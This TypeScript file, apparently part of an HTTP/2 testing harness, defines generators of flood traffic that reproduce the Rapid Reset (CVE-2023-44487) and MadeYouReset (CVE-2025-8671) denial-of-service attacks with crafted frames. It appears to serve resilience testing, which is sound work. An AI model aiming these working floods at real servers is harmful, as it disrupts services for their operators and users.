import { FrameType } from '../../../harness/http2/frame.ts';
import {
  dataFrame,
  frame,
  headersFrame,
  priorityFrame,
  rstStreamFrame,
  windowUpdateFrame,
} from '../../../harness/http2/frame-writer.ts';
import { headerBlock } from '../../../harness/http2/hpack/encode.ts';
import type { Flood } from '../flood.ts';
import { getBlock, postBlock, streams } from './blocks.ts';

/** Requests that are worth nothing to their caller, but work to whoever serves them. */

const most = 5000;
const endStream = { endStream: true };

/** A request, and a frame behind it that makes the server reset it. */
function madeYouReset(block: Buffer, options: { endStream: boolean }, behind: (stream: number) => Buffer) {
  return function* (): Iterable<Buffer> {
    for (const stream of streams(most)) yield Buffer.concat([headersFrame(stream, block, options), behind(stream)]);
  };
}

export const resetFloods: readonly Flood[] = [
  {
    name: '10,000 requests, each taken back at once',
    reference: 'CVE-2023-44487',
    *bytes() {
      for (const stream of streams(10_000))
        yield Buffer.concat([headersFrame(stream, getBlock, endStream), rstStreamFrame(stream, 'CANCEL')]);
    },
  },
  {
    name: '10,000 uploads, each taken back at once',
    reference: 'CVE-2023-44487',
    *bytes() {
      for (const stream of streams(10_000))
        yield Buffer.concat([
          headersFrame(stream, postBlock),
          dataFrame(stream, 'x'),
          rstStreamFrame(stream, 'CANCEL'),
        ]);
    },
  },
  {
    name: '5,000 requests that the server has to reset for a WINDOW_UPDATE of 0',
    reference: 'CVE-2025-8671',
    bytes: madeYouReset(postBlock, { endStream: false }, (stream) => windowUpdateFrame(stream, 0)),
  },
  {
    name: '5,000 requests that the server has to reset for DATA behind their end',
    reference: 'CVE-2025-8671',
    bytes: madeYouReset(getBlock, endStream, (stream) => dataFrame(stream, 'x')),
  },
  {
    name: '5,000 requests that the server has to reset for a window beyond its bound',
    reference: 'CVE-2025-8671',
    bytes: madeYouReset(getBlock, endStream, (stream) => windowUpdateFrame(stream, 0x7fffffff)),
  },
  {
    name: '5,000 requests that the server may reset for a dependency on themselves',
    reference: 'CVE-2025-8671',
    bytes: madeYouReset(getBlock, endStream, (stream) => priorityFrame(stream, stream)),
  },
  {
    name: '5,000 requests that the server has to reset for a PRIORITY of the wrong size',
    reference: 'CVE-2025-8671',
    bytes: madeYouReset(getBlock, endStream, (stream) => frame(FrameType.priority, 0, stream, Buffer.alloc(4))),
  },
  {
    name: '5,000 requests that the server has to reset for being malformed',
    reference: 'CVE-2025-8671',
    *bytes() {
      const block = headerBlock([[':method', 'GET']]);
      for (const stream of streams(most)) yield headersFrame(stream, block, endStream);
    },
  },
  {
    name: '50,000 resets of a stream that is over',
    reference: 'RFC 9113 §5.1',
    *bytes() {
      yield headersFrame(1, getBlock, endStream);
      for (let i = 0; i < 50_000; i++) yield rstStreamFrame(1, 'CANCEL');
    },
  },
];
